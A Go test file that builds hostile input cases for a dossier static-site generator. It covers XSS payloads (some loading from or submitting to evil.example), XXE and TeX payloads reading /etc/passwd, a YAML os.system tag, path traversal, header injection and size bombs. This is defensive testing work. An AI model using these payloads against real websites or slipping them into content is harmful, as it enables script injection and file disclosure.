//go:build hostile

package hostile_test

import (
	"fmt"
	"maps"
	"strconv"
	"strings"
)

// hostileCase is one dossier that somebody means ill with: what differs from [base].
type hostileCase struct {
	name  string
	files map[string]string
}

// base is a dossier with one of each kind of thing in it, and nothing wrong.
var base = map[string]string{
	"content/dossier.yaml":             "title: Small\ndescription: A small dossier.\nlanguage: en\nrights: full\n",
	"content/people/hatta.md":          "---\nname: Mohammad Hatta\naliases: [Hatta]\nroles:\n  - {title: Chairman, organisation: council, from: 2020, evidence: [paper#p1]}\n---\nHe opened the meeting. [[paper#p1]]\n",
	"content/organisations/council.md": "---\nname: The Council\n---\n",
	"content/places/harbour.md":        "---\nname: Harbour Town\ncoordinates: [1, 2]\n---\n",
	"content/topics/water.md":          "---\ntitle: Water\n---\nThe meeting was on water. [[paper#p1]]\n",
	"content/events/meeting.md":        "---\ntitle: The meeting\ndate: 2023-04-16\nplace: harbour\nparticipants: [hatta]\nevidence: [paper#p1]\n---\n",
	"content/claims/enough.md":         "---\ntitle: There is enough water.\ntopics: [water]\n---\n",
	"content/pages/about.md":           "---\ntitle: About\n---\nThis is a page. See [[hatta]].\n",
	"content/sources/paper.md": "---\ntitle: A report\nsiglum: A\ndate: 2023-04-17\nurl: https://example.org/a\nevents: [meeting]\nquotes:\n" +
		"  - {text: \"There is enough,\", by: hatta, claim: enough, stance: asserts, topics: [water]}\n---\n" +
		"Mohammad Hatta, the chairman of The Council, opened the meeting on water in Harbour Town on 16 April 2023. “There is enough,” said Hatta.\n\nThen they went home.\n",
}

// on returns base with other files.
func on(others map[string]string) map[string]string {
	all := maps.Clone(base)
	maps.Copy(all, others)
	return all
}

// payloads are what attackers of websites write into fields.
var payloads = []struct{ name, text string }{
	{"script", `<script>alert(1)</script>`},
	{"script-upper", `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`},
	{"script-split", `<scr<script>ipt>alert(1)</scr</script>ipt>`},
	{"close-title", `</title><script>alert(1)</script>`},
	{"close-script", `</script><script>alert(1)</script>`},
	{"close-json", `"}</script><script>alert(1)</script>`},
	{"comment", `--><script>alert(1)</script><!--`},
	{"comment-half", `<!-- `},
	{"cdata", `]]><script>alert(1)</script><![CDATA[`},
	{"img", `<img src=x onerror=alert(1)>`},
	{"svg", `<svg/onload=alert(1)>`},
	{"math", `<math><mtext><img src=x onerror=alert(1)></mtext></math>`},
	{"style", `<style>*{background:url(//evil.example)}</style>`},
	{"base", `<base href="//evil.example/">`},
	{"meta", `<meta http-equiv=refresh content="0;url=//evil.example">`},
	{"iframe", `<iframe srcdoc="<script>alert(1)</script>">`},
	{"form", `<form action=//evil.example><input name=q>`},
	{"attribute", `" onmouseover="alert(1)`},
	{"attribute-single", `' onmouseover='alert(1)`},
	{"attribute-back", "` onmouseover=`alert(1)"},
	{"template", `{{.}}{{template "page" .}}`},
	{"template-end", `{{end}}{{define "main"}}owned{{end}}`},
	{"entities", `&lt;script&gt;alert(1)&lt;/script&gt;`},
	{"entities-numbered", `&#60;script&#62;alert(1)&#60;/script&#62;`},
	{"markdown-link", `[click](javascript:alert(1))`},
	{"markdown-entities", `[click](java&#115;cript:alert(1))`},
	{"markdown-image", `![x](https://evil.example/pixel.png)`},
	{"markdown-autolink", `<javascript:alert(1)>`},
	{"markdown-reference", "[click][x]\n\n[x]: data:text/html,<script>alert(1)</script>"},
	{"wiki", `[[hatta|<script>alert(1)</script>]]`},
	{"wiki-nested", `[[hatta|[[council|[[harbour]]]]]]`},
	{"bidi", "right \u202egnp.exe\u202c left \u2066x\u2069"},
	{"zero-width", "Ha\u200btta \u2060\ufeff"},
	{"escape", "\x1b]0;owned\x07\x1b[31mred"},
	{"nul", "a\x00b"},
	{"not-utf8", "a\xff\xfe\xc0\xafb"},
	{"separators", "a\u2028b\u2029c\u0085d"},
	{"tags", "x\U000e0041\U000e007f"},
	{"combining", "Z" + strings.Repeat("\u0301", 200)},
	{"spreadsheet", `=HYPERLINK("https://evil.example","click")`},
	{"tex", `\input{/etc/passwd}\immediate\write18{id}`},
	{"xml", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;`},
	{"calendar", "x\r\nEND:VEVENT\r\nBEGIN:VEVENT"},
	{"header", "x\r\nSet-Cookie: a=b"},
}

// classes are the kinds of attack.
func classes() map[string][]hostileCase {
	return map[string][]hostileCase{
		"markup-in-names":   fields(nameOf),
		"markup-in-titles":  fields(titleOf),
		"markup-in-prose":   fields(proseOf),
		"markup-in-sources": fields(sourceOf),
		"markup-in-labels":  fields(labelOf),
		"front-matter":      frontMatter(),
		"paths":             paths(),
		"references":        references(),
		"addresses":         addresses(),
		"dates":             dates(),
		"own-files":         ownFiles(),
		"sizes":             sizes(),
	}
}

// fields puts each payload where a function says.
func fields(at func(text string) map[string]string) []hostileCase {
	var all []hostileCase
	for _, p := range payloads {
		all = append(all, hostileCase{p.name, at(p.text)})
	}
	return all
}

// quoted returns text as YAML has it between quotation marks.
func quoted(s string) string {
	if q, err := strconv.Unquote(strconv.Quote(s)); err == nil && q == s && strings.ToValidUTF8(s, "") == s {
		return strconv.Quote(s)
	}
	return `"` + strings.ReplaceAll(s, `"`, `\"`) + `"`
}

func nameOf(s string) map[string]string {
	q := quoted(s)
	return map[string]string{
		"content/people/hatta.md":          "---\nname: " + quoted("Mohammad Hatta "+s) + "\naliases: [Hatta, " + q + "]\nsummary: " + q + "\nroles:\n  - {title: " + q + ", organisation: council, from: 2020}\nlinks: [{title: " + q + ", url: 'https://example.org/'}]\n---\n",
		"content/organisations/council.md": "---\nname: " + quoted("The Council "+s) + "\n---\n",
		"content/places/harbour.md":        "---\nname: " + quoted("Harbour Town "+s) + "\ncoordinates: [1, 2]\n---\n",
	}
}

func titleOf(s string) map[string]string {
	q := quoted(s)
	return map[string]string{
		"content/dossier.yaml":      "title: " + q + "\ndescription: " + q + "\nlanguage: en\nrights: full\npublisher: " + q + "\nlicence: " + q + "\ncontact: " + q + "\n",
		"content/topics/water.md":   "---\ntitle: " + q + "\ngaps: [" + q + "]\nsummary: " + q + "\n---\n",
		"content/events/meeting.md": "---\ntitle: " + q + "\ndate: 2023-04-16\ndate_note: " + q + "\nparticipants: [{who: hatta, as: " + q + "}]\nevidence: [paper#p1]\naccounts: [{fact: " + q + ", says: [{source: paper#p1, text: " + q + "}]}]\n---\n",
		"content/claims/enough.md":  "---\ntitle: " + q + "\nsummary: " + q + "\nstances: {mine: {as: qualifies, words: " + q + "}}\n---\n",
	}
}

func proseOf(s string) map[string]string {
	return map[string]string{
		"content/pages/about.md":  "---\ntitle: About\n---\n" + s + "\n\n> " + s + "\n\n- " + s + "\n\n| a |\n|---|\n| " + s + " |\n\n    " + s + "\n\n`" + s + "`\n\n[x](https://example.org/ " + quoted(s) + ")\n",
		"content/topics/water.md": "---\ntitle: Water\n---\n# " + s + "\n\n[[hatta|" + s + "]] " + s + " [[paper#p1]]\n",
	}
}

func sourceOf(s string) map[string]string {
	q := quoted(s)
	return map[string]string{
		"content/sources/paper.md": strings.NewReplacer(
			"title: A report", "title: "+q+"\nauthor: "+q+"\npublisher: "+q+"\ncut: ["+q+"]\ndate_note: "+q,
			"topics: [water]}", "topics: [water], note: "+q+"}",
			"Then they", s+" then they",
		).Replace(base["content/sources/paper.md"]),
	}
}

func labelOf(s string) map[string]string {
	q := quoted(s)
	return map[string]string{"content/labels.yaml": "home: " + q + "\nskip_link: " + q + "\ntopics: " + q + "\nsources: " + q + "\npath_people: " + q + "\n"}
}

// person returns cases of one person's file.
func person(texts map[string]string) []hostileCase {
	var all []hostileCase
	for name, text := range texts {
		all = append(all, hostileCase{name, map[string]string{"content/people/hatta.md": text}})
	}
	return all
}

func frontMatter() []hostileCase {
	bomb := "a: &a [x,x,x,x,x,x,x,x,x]\n"
	for c := 'b'; c <= 'i'; c++ {
		bomb += fmt.Sprintf("%c: &%c [%s]\n", c, c, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*%c,", c-1), 9), ","))
	}
	named := func(front string) string { return "---\nname: Mohammad Hatta\n" + front + "\n---\n" }
	return person(map[string]string{
		"empty": "", "blank": "\n\n\n", "no-front-matter": "Only text.\n", "no-end": "---\nname: x\n", "only-fence": "---\n", "two-fences": "---\n---\n",
		"four-dashes": "----\nname: x\n----\n", "late-fence": "\n---\nname: x\n---\n", "spaces-before": "  ---\nname: x\n---\n", "bom": "\ufeff---\nname: Mohammad Hatta\n---\n",
		"crlf": "---\r\nname: Mohammad Hatta\r\n---\r\n", "cr": "---\rname: Mohammad Hatta\r---\r", "utf16": "\xff\xfe-\x00-\x00-\x00", "nul": "---\nname: a\x00b\n---\n",
		"tab": named("\taliases: [x]"), "unclosed-list": named("aliases: [x"), "unclosed-quote": named("summary: \"x"), "unclosed-map": named("roles: [{title: x"),
		"duplicate": named("name: Other"), "unknown-key": named("nmae: x"), "merge-key": named("<<: {aliases: [x]}"), "merge-cycle": named("a: &a\n  <<: *a"),
		"bomb": "---\n" + bomb + "---\n", "alias-unknown": named("aliases: *x"), "alias-cycle": named("aliases: &a [*a]"), "anchor": named("aliases: &a [x]\nsummary: *a"),
		"tag": named("aliases: !!python/object:os.system [id]"), "tag-binary": named("summary: !!binary aGF0dGE="), "tag-local": named("summary: !x y"), "directive": "---\n%YAML 1.3\nname: x\n---\n",
		"list": "---\n- a\n- b\n---\n", "scalar": "---\njust text\n---\n", "null": "---\nnull\n---\n", "number": "---\n42\n---\n", "key-list": "---\n? [a, b]\n: c\n---\n", "key-null": "---\n~: x\n---\n",
		"name-list": "---\nname: [a]\n---\n", "name-map": "---\nname: {a: b}\n---\n", "name-null": "---\nname: null\n---\n", "name-empty": "---\nname: \"\"\n---\n", "name-space": "---\nname: \" \"\n---\n",
		"name-number": "---\nname: 0x1F\n---\n", "name-date": "---\nname: 2023-04-16\n---\n", "name-bool": "---\nname: yes\n---\n", "name-infinite": "---\nname: .inf\n---\n", "name-lines": "---\nname: |\n  a\n  b\n---\n",
		"aliases-text": named("aliases: Hatta"), "aliases-deep": named("aliases: [[[[x]]]]"), "aliases-null": named("aliases: [null, ~]"), "aliases-empty": named(`aliases: ["", " "]`), "alias-of-marks": named(`aliases: ["...", "—", "“”"]`),
		"deep": named("a: " + strings.Repeat("[", 500) + strings.Repeat("]", 500)), "deep-maps": named("a: " + strings.Repeat("{a: ", 500) + strings.Repeat("}", 500)), "deep-indent": named("roles:\n" + steps(300)),
		"long-key": named(strings.Repeat("k", 5000) + ": x"), "comment-bomb": named(strings.Repeat("# x\n", 2000)), "documents": "---\nname: a\n---\nname: b\n---\nname: c\n...\n",
		"draft-text": named("draft: maybe"), "huge-number": named("wikidata: Q" + strings.Repeat("9", 400)), "emoji-key": named("\"😀\": x"), "control-key": named("\"\\u0007\": x"), "private-list": named("private: [x]"),
		"roles-text": named("roles: Chairman"), "roles-nothing": named("roles: [{}]"), "roles-negative": named("roles: [{title: x, from: -5}]"), "roles-backwards": named("roles: [{title: x, from: 2024, to: 2020}]"),
	})
}

// steps is YAML that is indented once more on each line.
func steps(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "%sa:\n", strings.Repeat(" ", i+1))
	}
	return b.String()
}

// paths has no name that is not UTF-8: the file systems of package fs cannot have one.
func paths() []hostileCase {
	var all []hostileCase
	add := func(name string, where ...string) {
		files := map[string]string{}
		for _, p := range where {
			text := "x"
			if strings.HasSuffix(p, ".md") {
				text = "---\nname: Somebody Else\n---\n"
			}
			files[p] = text
		}
		all = append(all, hostileCase{name, files})
	}
	for name, slug := range map[string]string{
		"upper": "Hatta2", "space": "a b", "dots": "a..b", "leading-dot": ".hidden", "leading-hyphen": "-rf", "double-hyphen": "a--b", "underscore": "a_b", "accent": "é", "accent-apart": "e\u0301",
		"emoji": "😀", "bidi": "a\u202eb", "zero-width": "a\u200bb", "con": "con", "nul-device": "nul", "com1": "com1", "quote": `a"b`, "less": "a<b", "ampersand": "a&b", "percent": "a%2fb", "question": "a?b", "hash": "a#b",
		"colon": "a:b", "star": "a*b", "pipe": "a|b", "backslash": `a\b`, "newline": "a\nb", "tab": "a\tb", "escape": "a\x1bb", "nul-byte": "a\x00b", "not-utf8": "a\xffb", "long": strings.Repeat("a", 101), "too-long": strings.Repeat("a", 300),
		"main": "main", "q": "q", "index": "index", "404": "404", "p1": "p1", "q1": "q1", "constructor": "constructor", "proto": "__proto__", "only-digits": "123", "trailing-dot": "a.", "tilde": "a~",
	} {
		add("slug-"+name, "content/people/"+slug+".md")
	}
	for name, p := range map[string]string{
		"con": "con.txt", "aux": "AUX", "lpt": "x/lpt9.css", "trailing-space": "a ", "trailing-dot": "a.", "colon": "a:b", "question": "a?.png", "newline": "a\nb.txt", "html": "x.html", "svg": "x.svg", "deep": strings.Repeat("a/", 60) + "b",
		"manifest": ".berkas-manifest", "stage": ".berkas-stage-1/x", "well-known": ".well-known/x", "script": "<script>.txt", "long": strings.Repeat("b", 250) + ".txt", "percent": "%2e%2e%2fx", "bidi": "a\u202e.txt", "not-utf8": "a\xff/b.txt",
	} {
		add("static-"+name, "content/static/"+p)
	}
	for name, p := range map[string]string{
		"source-folder-aux": "sources/aux/x.md", "source-folder-dot": "sources/a./x.md", "source-folder-space": "sources/a /x.md", "source-folder-colon": "sources/a:b/x.md", "source-file-con": "sources/a/con.md", "source-folder-bidi": "sources/a\u202eb/x.md",
		"picture-nul": "images/nul.png", "picture-folder-prn": "images/PRN/x.png", "picture-star": "images/a*.png", "original-lpt": "originals/lpt1", "original-dot": "originals/a.", "original-com": "originals/com³.pdf", "kind-con": "con/x.md", "file-nul": "nul.txt",
	} {
		add(name, "content/"+p)
	}
	add("template-aux", "templates/aux.html")
	add("own-static-con", "static/css/con.css")
	add("source-folders-in-case", "content/sources/A/x.md", "content/sources/a/y.md")
	add("pictures-in-case", "content/images/X.png", "content/images/x.png")
	add("originals-in-accents", "content/originals/\u00e9", "content/originals/e\u0301")
	add("templates-in-case", "templates/404.html", "templates/404.HTML")
	add("same-slug", "content/people/harbour.md")
	add("case-alone", "content/static/A.txt", "content/static/a.txt")
	add("file-and-folder", "content/static/a", "static/static/a/b")
	add("own-page", "static/people/hatta.html")
	add("own-data", "static/data/dossier.json")
	add("own-search", "static/search/x.js")
	add("unknown-folder", "content/peoples/x.md")
	add("unknown-file", "content/people/x.txt")
	add("nested", "content/people/deep/x.md")
	add("no-extension", "content/people/x")
	add("upper-extension", "content/people/x.MD")
	return all
}

func references() []hostileCase {
	one := func(name, path, text string) hostileCase { return hostileCase{name, map[string]string{path: text}} }
	topic := func(name, front, body string) hostileCase {
		return one(name, "content/topics/water.md", "---\ntitle: Water\n"+front+"---\n"+body+"\n")
	}
	source := func(name, old, with string) hostileCase {
		return one(name, "content/sources/paper.md", strings.Replace(base["content/sources/paper.md"], old, with, 1))
	}
	return []hostileCase{
		topic("parent-itself", "parent: water\n", ""), topic("parent-unknown", "parent: nowhere\n", ""), topic("parent-of-other-kind", "parent: hatta\n", ""),
		{"parent-cycle", map[string]string{"content/topics/water.md": "---\ntitle: Water\nparent: fire\n---\n", "content/topics/fire.md": "---\ntitle: Fire\nparent: water\n---\n"}},
		topic("redirect-itself", "redirect_from: [water]\n", ""), topic("redirect-other", "redirect_from: [hatta]\n", ""), topic("redirect-twice", "redirect_from: [old, old]\n", ""), topic("redirect-path", "redirect_from: [../../etc/passwd]\n", ""),
		{"redirect-by-two", map[string]string{"content/topics/water.md": "---\ntitle: Water\nredirect_from: [old]\n---\n", "content/topics/fire.md": "---\ntitle: Fire\nredirect_from: [old]\n---\n"}},
		topic("link-unknown", "", "[[nowhere]]"), topic("link-empty", "", "[[]] [[|]] [[#]] [[ ]]"), topic("link-open", "", "[[hatta"), topic("link-many-open", "", strings.Repeat("[[", 300)), topic("link-newline", "", "[[hat\nta]]"),
		topic("link-paragraph-zero", "", "x [[paper#p0]]"), topic("link-paragraph-padded", "", "x [[paper#p01]]"), topic("link-paragraph-far", "", "x [[paper#p99999999999999999999]]"), topic("link-paragraph-negative", "", "x [[paper#p-1]]"), topic("link-paragraph-of-person", "", "x [[hatta#p1]]"),
		topic("link-quotation-zero", "", "x [[paper#q0]]"), topic("link-quotation-far", "", "x [[paper#q2]]"), topic("link-anchor", "", "x [[paper#main]]"), topic("link-silent-all", "", "Nothing is said of it. [[paper#silent]]"), topic("link-silent-wrong", "", "x [[paper#p1-silent-silent]]"), topic("link-arabic-digit", "", "x [[paper#p١]]"),
		topic("link-upper", "", "[[HATTA]]"), topic("link-in-code", "", "`[[hatta]]`"), topic("link-in-link", "", "[a [[hatta]] b](https://example.org/)"), topic("link-in-image", "", "![[[hatta]]](images/x.png)"), topic("image-unknown", "", "![](images/none.png)"), topic("image-outside", "", "![](../../../etc/passwd)"), topic("image-of-the-site-unknown", "", "![x](a/b.png)"), topic("image-colon-in-path", "", "![x](a/b://evil.example/c.png)"), topic("image-scheme-behind-dot", "", "![x](./https://evil.example/c.png)"),
		one("link-scheme-behind-dot", "content/pages/about.md", "---\ntitle: About\n---\n[x](./javascript:alert(1)) [y](./data:text/html,z)\n"),
		source("event-unknown", "events: [meeting]", "events: [nowhere]"), source("event-other-kind", "events: [meeting]", "events: [hatta]"), source("event-twice", "events: [meeting]", "events: [meeting, meeting]"), source("speaker-unknown", "by: hatta", "by: nobody"), source("speaker-place", "by: hatta", "by: harbour"), source("speaker-list-empty", "by: hatta", "by: []"),
		source("speaker-many", "by: hatta", "by: ["+strings.TrimSuffix(strings.Repeat("hatta, ", 300), ", ")+"]"), source("claim-unknown", "claim: enough", "claim: none"), source("stance-unknown", "stance: asserts", "stance: shouts"), source("words-nowhere", "There is enough,\"", "There is too much,\""), source("words-empty", "\"There is enough,\"", "\"\""), source("words-skip-alone", "\"There is enough,\"", "\"[…]\""),
		source("words-skip-many", "\"There is enough,\"", "\""+strings.Repeat("[…] ", 200)+"enough\""), source("words-across", "\"There is enough,\"", "\"said Hatta. Then they\""), source("paragraph-far", "text: ", "paragraph: 99, text: "), source("paragraph-text", "text: ", "paragraph: one, text: "), source("hash-wrong", "siglum: A", "siglum: A\nsha256: 00"),
		source("siglum-lower", "siglum: A", "siglum: a"), source("siglum-long", "siglum: A", "siglum: "+strings.Repeat("A", 60)), source("siglum-markup", "siglum: A", "siglum: <b>"), source("siglum-none", "siglum: A\n", ""), source("include-unknown", "siglum: A", "siglum: A\nmentions: {include: [{text: meeting, is: nobody}]}"), source("exclude-all", "siglum: A", "siglum: A\nmentions: {exclude: [hatta, council, harbour]}"),
		source("original-outside", "siglum: A", "siglum: A\noriginal: {file: ../../etc/passwd, sha256: "+strings.Repeat("0", 64)+", media_type: text/html}"), source("original-missing", "siglum: A", "siglum: A\noriginal: {file: x.html, sha256: "+strings.Repeat("0", 64)+", media_type: text/html}"), source("figure-nowhere", "topics: [water]}", "topics: [water], figure: {value: 1e999, unit: \"%\", of: x}}"),
		source("pages-wrong", "siglum: A", "siglum: A\npages: {9: 1, 0: 2, x: 3}"), source("times-wrong", "siglum: A", "siglum: A\ntimes: {1: \"99:99:99\", 2: \"-1\"}"),
		{"event-cycle", map[string]string{"content/events/meeting.md": "---\ntitle: The meeting\ndate: 2023-04-16\npart_of: talks\nafter: [talks]\n---\n", "content/events/talks.md": "---\ntitle: The talks\ndate: 2023-04-16\npart_of: meeting\nafter: [meeting]\n---\n"}},
		one("place-in-itself", "content/places/harbour.md", "---\nname: Harbour Town\npart_of: harbour\n---\n"), one("place-nowhere", "content/places/harbour.md", "---\nname: Harbour Town\ncoordinates: [91, 181]\n---\n"), one("place-not-a-number", "content/places/harbour.md", "---\nname: Harbour Town\ncoordinates: [.nan, .inf]\n---\n"), one("place-one-number", "content/places/harbour.md", "---\nname: Harbour Town\ncoordinates: [1]\n---\n"),
		one("relation-to-itself", "content/people/hatta.md", "---\nname: Mohammad Hatta\nrelations: [{with: hatta, type: knows}]\n---\n"), one("name-of-another", "content/people/hatta.md", "---\nname: The Council\naliases: [Harbour Town]\n---\n"),
	}
}

func addresses() []hostileCase {
	var all []hostileCase
	for name, url := range map[string]string{
		"javascript": "javascript:alert(1)", "javascript-case": "JaVaScRiPt:alert(1)", "javascript-tab": "java\tscript:alert(1)", "javascript-newline": "java\nscript:alert(1)", "javascript-space": " javascript:alert(1)", "javascript-nul": "java\x00script:alert(1)", "javascript-control": "\x01javascript:alert(1)",
		"javascript-entity": "javascript&colon;alert(1)", "javascript-percent": "javascript%3Aalert(1)", "vbscript": "vbscript:msgbox(1)", "data": "data:text/html,<script>alert(1)</script>", "data-image": "data:image/svg+xml,<svg onload=alert(1)>", "file": "file:///etc/passwd", "blob": "blob:https://example.org/x", "ftp": "ftp://example.org/", "mailto": "mailto:x@example.org?subject=<b>",
		"relative": "//evil.example/", "backslash": `\\evil.example\x`, "backslash-mixed": `https:\\evil.example`, "credentials": "https://user:secret@example.org/", "credentials-host": "https://example.org@evil.example/", "port": "https://example.org:99999/", "ipv6": "https://[::1]/", "ipv6-zone": "https://[fe80::1%25eth0]/", "number": "https://2130706433/",
		"unicode-host": "https://ехample.org/", "punycode": "https://xn--e1awd7f.example/", "dots": "https://example.org/../../../", "quote": `https://example.org/"onmouseover="alert(1)`, "less": "https://example.org/<script>", "space": "https://example.org/a b", "newline": "https://example.org/a\nb", "bidi": "https://example.org/\u202egnp", "long": "https://example.org/" + strings.Repeat("a", 20000), "fragment": "https://example.org/#:~:text=<b>", "empty": "", "scheme-only": "https:", "host-only": "https://", "no-scheme": "example.org", "percent": "https://example.org/%zz", "not-utf8": "https://example.org/\xff",
	} {
		q := quoted(url)
		all = append(all,
			hostileCase{"source-" + name, map[string]string{"content/sources/paper.md": strings.Replace(base["content/sources/paper.md"], "url: https://example.org/a", "url: "+q+"\narchived_url: "+q, 1)}},
			hostileCase{"prose-" + name, map[string]string{"content/pages/about.md": "---\ntitle: About\n---\n[a](" + url + ") [b](<" + url + ">) <" + url + "> " + url + "\n\n[c]\n\n[c]: " + url + "\n", "content/people/hatta.md": "---\nname: Mohammad Hatta\nlinks: [{title: x, url: " + q + "}]\n---\n"}},
		)
	}
	return all
}

func dates() []hostileCase {
	var all []hostileCase
	for name, date := range map[string]string{
		"empty": `""`, "zero": "0", "negative": "-1", "year-zero": "0000", "year-last": "9999", "year-five": "10000", "month-zero": "2023-00", "month-13": "2023-13", "day-zero": "2023-04-00", "day-31": "2023-04-31", "leap": "2024-02-29", "no-leap": "2023-02-29", "leap-century": "1900-02-29", "day-99": "2023-04-99",
		"time": "2023-04-16T12:00:00Z", "slashes": "16/04/2023", "spaces": `" 2023 "`, "words": "yesterday", "about": "2023~", "unknown": "2023-XX", "maybe": "2023?", "range": "2023/2024", "range-backwards": "2024/2023", "range-open": "2023/..", "range-empty": "/", "range-three": "2023/2024/2025", "range-long": "0001/9999", "arabic": `"٢٠٢٣"`, "wide": `"２０２３"`, "minus": `"2023−04−16"`,
		"float": "20.23", "exponent": "2e3", "hex": "0x7e7", "octal": "03747", "list": "[2023]", "map": "{year: 2023}", "null": "null", "bool": "true", "markup": `"<b>2023</b>"`, "long": strings.Repeat("2", 10000), "nul": "\"2023\\0\"", "newline": `"2023\n04"`,
	} {
		all = append(all, hostileCase{name, map[string]string{
			"content/events/meeting.md": "---\ntitle: The meeting\ndate: " + date + "\nparticipants: [hatta]\nevidence: [paper#p1]\n---\n",
			"content/sources/paper.md":  strings.Replace(base["content/sources/paper.md"], "date: 2023-04-17", "date: 2023-04-17\naccessed: "+date+"\nadded: "+date, 1),
			"content/people/hatta.md":   "---\nname: Mohammad Hatta\nroles: [{title: Chairman, from: " + date + ", to: " + date + "}]\n---\n",
		}})
	}
	return all
}

func ownFiles() []hostileCase {
	var all []hostileCase
	for name, text := range map[string]string{
		"empty": "", "space": " \n", "unclosed": "{{define \"main\"}}", "unopened": "{{end}}", "unknown-field": "{{define \"main\"}}{{.Nowhere}}{{end}}", "unknown-function": "{{define \"main\"}}{{exec \"id\"}}{{end}}", "call": "{{define \"main\"}}{{call .}}{{end}}", "itself": "{{define \"main\"}}{{template \"main\" .}}{{end}}", "no-template": "{{define \"main\"}}{{template \"nowhere\" .}}{{end}}",
		"script": "{{define \"main\"}}<script>var x = {{.Title}}</script>{{end}}", "handler": "{{define \"main\"}}<p onclick=\"{{.Title}}\">x</p>{{end}}", "half-tag": "{{define \"main\"}}<p {{.Title}}{{end}}", "half-quote": "{{define \"main\"}}<p title=\"{{.Title}}{{end}}", "nul": "{{define \"main\"}}\x00{{end}}", "not-utf8": "{{define \"main\"}}\xff{{end}}", "deep": "{{define \"main\"}}" + strings.Repeat("{{with .Title}}", 300) + strings.Repeat("{{end}}", 300) + "{{end}}", "print-all": "{{define \"main\"}}{{printf \"%v\" .}}{{end}}", "index": "{{define \"main\"}}{{index .Title 99999}}{{end}}", "range-far": "{{define \"main\"}}{{range 3}}{{$.Title}}{{end}}{{end}}",
	} {
		all = append(all, hostileCase{"template-" + name, map[string]string{"templates/404.html": text}})
	}
	for name, text := range map[string]string{
		"empty": "", "list": "- a\n", "text": "home\n", "unknown": "hoem: x\n", "null": "home: null\n", "empty-word": "home: \"\"\n", "hole-missing": "page_title: x\n", "hole-unknown": "page_title: \"{title} {site} {other}\"\n", "hole-open": "page_title: \"{title} {site} {\"\n", "path-slash": "path_people: a/b\n", "path-up": "path_people: ..\n", "path-same": "path_people: sources\n", "path-index": "path_people: index\n", "path-data": "path_people: data\n", "path-long": "path_people: " + strings.Repeat("a", 300) + "\n", "duplicate": "home: a\nhome: b\n", "bomb": "a: &a [x]\nb: *a\n", "twelve": "months: [a]\n",
	} {
		all = append(all, hostileCase{"labels-" + name, map[string]string{"content/labels.yaml": text}})
	}
	for name, text := range map[string]string{
		"empty": "", "text": "Small\n", "list": "- a\n", "no-language": "title: x\ndescription: x\n", "language-unknown": "title: x\ndescription: x\nlanguage: xx-nowhere-at-all\n", "language-markup": "title: x\ndescription: x\nlanguage: \"\\\"><script>\"\n", "base-javascript": "title: x\ndescription: x\nlanguage: en\nbase_url: javascript:alert(1)\n", "base-relative": "title: x\ndescription: x\nlanguage: en\nbase_url: /x/\n", "base-credentials": "title: x\ndescription: x\nlanguage: en\nbase_url: https://a:b@example.org/\n", "repository-javascript": "title: x\ndescription: x\nlanguage: en\nrepository: javascript:alert(1)\n", "accent": "title: x\ndescription: x\nlanguage: en\naccent: \"red;background:url(x)\"\n", "featured": "title: x\ndescription: x\nlanguage: en\nfeatured: [hatta, nowhere]\n", "silence-error": "title: x\ndescription: x\nlanguage: en\nsilence: [quotation-nowhere]\n", "points": "title: x\ndescription: x\nlanguage: en\npoints: [\"“Words that stand nowhere.” [[paper#p1]]\"]\n",
	} {
		all = append(all, hostileCase{"dossier-" + name, map[string]string{"content/dossier.yaml": text}})
	}
	return all
}

func sizes() []hostileCase {
	var all []hostileCase
	for name, unit := range map[string]string{
		"brackets": "[", "link-open": "[[", "images": "![", "stars": "*", "underscores": "_a", "backticks": "`", "quotes": "> ", "quotation-marks": "“", "ampersands": "&", "entities": "&amp;", "less": "<", "tags": "<a>", "tildes": "~~", "pipes": "|a", "footnotes": "[^1]", "names": "Hatta ", "numbers": "1,000 ", "days": "16 April 2023 ", "capitals": "Ab Cd ", "hyphens": "a-", "dots": "...", "spaces": " ", "no-break": "\u00a0", "combining": "\u0301", "zero-width": "\u200b", "cjk": "漢字", "arabic": "عربي ", "emoji": "👩‍👩‍👧 ", "backslashes": `\`, "parentheses": "(", "paragraphs": "a\n\n", "lines": "a\n", "headings": "# a\n\n", "items": "- a\n", "rules": "---\n",
	} {
		text := strings.Repeat(unit, 20000/len(unit))
		all = append(all,
			hostileCase{"page-" + name, map[string]string{"content/pages/about.md": "---\ntitle: About\n---\n" + text + "\n"}},
			hostileCase{"source-" + name, map[string]string{"content/sources/paper.md": base["content/sources/paper.md"] + "\n" + text + "\n"}},
		)
	}
	list := func(name, key, item string, n int) {
		all = append(all, hostileCase{"list-" + name, map[string]string{"content/people/hatta.md": "---\nname: Mohammad Hatta\n" + key + ":\n" + strings.Repeat("  - "+item+"\n", n) + "---\n"}})
	}
	list("roles", "roles", "{title: Chairman, organisation: council, from: 2020}", 2000)
	list("too-many-roles", "roles", "{title: Chairman, organisation: council, from: 2020}", 20_000)
	list("aliases", "aliases", "Hatta", 2000)
	list("too-large", "aliases", strings.Repeat("Hatta ", 200), 2000)
	list("deep", "aliases", strings.Repeat("[", 200)+strings.Repeat("]", 200), 1)
	list("links", "links", "{title: x, url: 'https://example.org/'}", 2000)
	list("too-many-of-anything", "redirect_from", "x", 100_000)
	return all
}
